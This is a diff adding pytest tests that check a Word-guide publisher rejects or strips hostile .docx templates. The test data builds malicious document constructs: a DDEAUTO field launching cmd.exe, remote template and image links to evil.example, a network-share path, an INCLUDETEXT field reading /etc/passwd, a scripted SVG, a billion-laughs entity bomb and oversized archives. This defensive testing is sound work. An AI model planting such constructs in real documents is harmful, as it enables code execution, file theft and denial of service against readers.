@@ -354,11 +354,177 @@ def broken_files(whole):
 def zipped(files):
     """A zip of those files; one without contents is left out."""
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
         for name, content in files.items():
             if content is not None:
                 archive.writestr(name, content)
     return buffer.getvalue()
+
+
+# --- a template that came from elsewhere -------------------------------------------------------------------
+
+ELSEWHERE = "http://evil.example/x"
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+@pytest.fixture
+def office_file(template):
+    """The files in an office's template that has a header of its own."""
+    document = docx.Document(template)
+    document.sections[0].header.paragraphs[0].text = "SỞ THÔNG TIN"
+    document.sections[0].header.paragraphs[0].add_run().add_picture(picture())
+    document.save(template)
+    parts = zipfile.ZipFile(template)
+    return {name: parts.read(name) for name in parts.namelist()}
+
+
+def picture():
+    """A crest, say."""
+    png = io.BytesIO()
+    Image.new("RGB", (8, 8), "red").save(png, "PNG")
+    png.seek(0)
+    return png
+
+
+def related(files, part, kind, target, *, external=True):
+    """``files`` whose ``part`` refers to one thing more."""
+    folder, _, name = part.rpartition("/")
+    rels = f"{folder}/_rels/{name}.rels"
+    empty = f'<Relationships xmlns="{RELATIONS}"></Relationships>'.encode()
+    mode = ' TargetMode="External"' if external else ""
+    one = f'<Relationship Id="rId99" Type="{RELATION}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
+    return files | {rels: files.get(rels, empty).replace(b"</Relationships>", one)}
+
+
+def in_header(files, xml):
+    """``files`` whose header has ``xml`` in it."""
+    written = files["word/header1.xml"].decode()
+    return files | {"word/header1.xml": written.replace("</w:p>", f"<w:r>{xml}</w:r></w:p>", 1).encode()}
+
+
+def field(*pieces):
+    """A field, its code in pieces."""
+    codes = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
+    return f'<w:fldChar w:fldCharType="begin"/>{codes}<w:fldChar w:fldCharType="end"/>'
+
+
+HOSTILE = {
+    "attached template": lambda files: related(files, "word/settings.xml", "attachedTemplate", ELSEWHERE),
+    "mail merge": lambda files: related(files, "word/settings.xml", "mailMergeSource", "file:///C:/people.odc"),
+    "linked picture": lambda files: related(files, "word/header1.xml", "image", ELSEWHERE),
+    "link": lambda files: related(files, "word/header1.xml", "hyperlink", ELSEWHERE),
+    "OLE": lambda files: related(files, "word/header1.xml", "oleObject", "../word/styles.xml", external=False),
+    "OLE elsewhere": lambda files: related(files, "word/header1.xml", "oleObject", ELSEWHERE),
+    "another document": lambda files: related(files, "word/header1.xml", "aFChunk", "styles.xml", external=False),
+    "bullet": lambda files: related(files, "word/numbering.xml", "image", ELSEWHERE),
+    "theme": lambda files: related(files, "word/theme/theme1.xml", "image", ELSEWHERE),
+    "style": lambda files: related(files, "word/styles.xml", "image", "media/image1.png", external=False),
+    "a drawing that is a page": lambda files: (
+        related(files, "word/header1.xml", "image", "media/image9.svg", external=False)
+        | {
+            "word/media/image9.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
+            "[Content_Types].xml": files["[Content_Types].xml"].replace(
+                b"<Default ", b'<Default Extension="svg" ContentType="image/svg+xml"/><Default ', 1
+            ),
+        }
+    ),
+    "address of a shape": lambda files: in_header(
+        files, f'<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{ELSEWHERE}"/></w:pict>'
+    ),
+    "share of a network": lambda files: in_header(
+        files, r'<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\evil.example\x"/></w:pict>'
+    ),
+    "picture that is fetched": lambda files: in_header(files, field(f' INCLUDEPICTURE "{ELSEWHERE}" \\d ')),
+    "text that is fetched": lambda files: in_header(files, field("INC", "LUDETEXT", ' "/etc/passwd"')),
+    "DDE": lambda files: in_header(files, field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
+    "link by a field": lambda files: in_header(files, field(f'HYPERLINK "{ELSEWHERE}"')),
+    "macro": lambda files: in_header(files, field("MACROBUTTON AutoOpen nhấn vào đây")),
+    "field in a field": lambda files: in_header(
+        files, field("PAGE").replace("</w:instrText>", f"</w:instrText>{field('QUOTE x')}", 1)
+    ),
+    "field without an end": lambda files: in_header(
+        files, '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText>'
+    ),
+    "simple field": lambda files: in_header(files, "</w:r><w:fldSimple w:instr='IMPORT x'/><w:r>"),
+    "entities": lambda files: files | {"word/header1.xml": laughing(files["word/header1.xml"])},
+    "entities in a theme": lambda files: files | {"word/theme/theme1.xml": laughing(files["word/theme/theme1.xml"])},
+    "too much": lambda files: files | {"word/media/more.bin": bytes(80 * 2**20)},
+    "too many": lambda files: files | {f"word/media/{number}.bin": b"" for number in range(1001)},
+}
+"""What would be fetched, run or unpacked by whoever opens the guide, or prints it."""
+LEFT = {
+    "macros": ("vbaProject", "word/vbaProject.bin"),
+    "data": ("customXml", "customXml/item1.xml"),
+    "building blocks": ("glossaryDocument", "word/glossary/document.xml"),
+    "a page of the web": ("webSettings", "word/webSettings2.xml"),
+    "another document": ("aFChunk", "word/afchunk.html"),
+}
+"""What a part of it brings that the guide has no use for: kind, file."""
+
+
+def laughing(xml):
+    """``xml`` with entities that grow to gigabytes."""
+    grow = "".join(f'<!ENTITY e{one} "{f"&e{one - 1};" * 10}">' for one in range(1, 12))
+    declared = f'<!DOCTYPE x [<!ENTITY e0 "lol">{grow}]>'.encode()
+    head, end, rest = xml.partition(b"?>")
+    return head + end + declared + rest.replace(b"<w:p>", b"<w:p><w:r><w:t>&e11;</w:t></w:r>", 1)
+
+
+def test_a_header_of_an_office_is_taken(written, template, office_file):
+    """Its words and its picture; and nothing that the lists don't know comes along."""
+    document = docx.Document(written(ordinary(), template=template))
+    assert document.sections[0].header.paragraphs[0].text == "SỞ THÔNG TIN"
+    brought = {relation.reltype.rpartition("/")[2] for relation in document.part.rels.values()}
+    assert brought == {"styles", "numbering", "settings", "theme", "header", "image"}
+
+
+@pytest.mark.parametrize("what", HOSTILE)
+def test_a87_what_a_template_would_fetch_run_or_unpack_is_told(template, office_file, what):
+    """In a sentence that names the file, the part and what was found; at once, and without unpacking it."""
+    template.write_bytes(zipped(HOSTILE[what](office_file)))
+    expected = "unpacks to" if what.startswith("too ") else r"brings more than it may, in word/[\w/]+\.xml: "
+    expected = "is not a Word document" if what == "entities" else expected  # their use is refused when it is read
+    with pytest.raises(PublishError, match=rf"mau\.docx {expected}"):
+        opened(template, "vi")
+
+
+@pytest.mark.parametrize("what", LEFT)
+@pytest.mark.parametrize("external", [False, True])
+def test_a87_what_a_guide_has_no_use_for_stays_behind(written, template, office_file, what, external):
+    """Of the document and of the file as a whole; those parts that it takes, and what is said of them, are listed."""
+    kind, name = LEFT[what]
+    target = ELSEWHERE if external else f"/{name}"
+    hostile = related(office_file, "word/document.xml", kind, target, external=external)
+    hostile = related(hostile, "", kind, target, external=external)
+    hostile["[Content_Types].xml"] = hostile["[Content_Types].xml"].replace(
+        b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+        b'<Default Extension="html" ContentType="text/html"/><Default ', 1
+    )  # fmt: skip
+    template.write_bytes(zipped(hostile if external else hostile | {name: b"<x>evil</x>"}))
+    parts = zipfile.ZipFile(written(ordinary(), template=template))
+    taken = "document|styles|numbering|settings|theme/theme1|header1|_rels/(document|header1).xml"
+    known = rf"_rels/.rels|\[Content_Types\].xml|docProps/core.xml|word/({taken})\.(xml|rels)|word/media/image\d+.png"
+    assert [name for name in parts.namelist() if not re.fullmatch(known, name)] == []
+    assert not any(b"evil" in parts.read(name) for name in parts.namelist())
+
+
+def test_a87_settings_and_macros_of_a_template_stay_behind(template, office_file):
+    """Sources of letters, variables and scripts; a file whose kind is one with macros is no .docx at all."""
+    settings = office_file["word/settings.xml"].replace(
+        b"</w:settings>",
+        b'<w:docVars><w:docVar w:name="evil" w:val="x"/></w:docVars><w:attachedSchema w:val="evil"/></w:settings>',
+    )
+    template.write_bytes(zipped(office_file | {"word/settings.xml": settings}))
+    assert b"evil" not in zipfile.ZipFile(io.BytesIO(packed(opened(template, "vi")))).read("word/settings.xml")
+    kinds = office_file["[Content_Types].xml"].replace(
+        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+        b"application/vnd.ms-word.document.macroEnabled.main+xml",
+    )
+    template.write_bytes(zipped(office_file | {"[Content_Types].xml": kinds}))
+    with pytest.raises(PublishError, match="is not a Word document"):
+        opened(template, "vi")
 
 
 def test_a_template_that_has_a_name_for_something_else_is_told(written, template):
